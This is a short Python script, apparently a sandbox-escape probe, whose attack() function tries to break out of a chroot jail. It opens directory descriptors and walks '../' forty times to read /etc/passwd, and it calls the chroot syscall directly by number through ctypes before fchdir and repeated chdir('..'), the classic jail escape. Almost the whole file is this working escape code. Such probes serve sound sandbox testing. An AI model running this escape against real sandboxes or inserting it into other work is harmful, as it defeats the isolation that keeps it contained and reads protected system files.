"""Climb out of the root with descriptors of directories, `..` and changes of directory."""

import ctypes
import os

CHROOT = {"x86_64": 161, "aarch64": 51}


def climbed(descriptor):
    try:
        found = os.open("../" * 40 + "etc/passwd", os.O_RDONLY, dir_fd=descriptor)
    except OSError:
        return None
    return f"climbed to {os.read(found, 40)!r}"


def attack():
    here = os.getcwd()
    try:
        for place in ("/", "/scratch/tmp", "/scratch", "/box", "/dev", os.path.dirname(os.__file__), "/lib64", "/usr"):
            for flags in (os.O_PATH, os.O_RDONLY):
                try:
                    descriptor = os.open(place, flags | os.O_DIRECTORY)
                except OSError:
                    continue
                if said := climbed(descriptor):
                    return said
                try:
                    # the old way out: a root below a directory that is still open
                    ctypes.CDLL(None).syscall(ctypes.c_long(CHROOT[os.uname().machine]), b"/scratch/tmp")
                    os.fchdir(descriptor)
                    for _ in range(40):
                        os.chdir("..")
                    return f"climbed to {open('etc/passwd').readline()}"
                except OSError:
                    continue
                finally:
                    os.close(descriptor)
    finally:
        os.chdir(here)
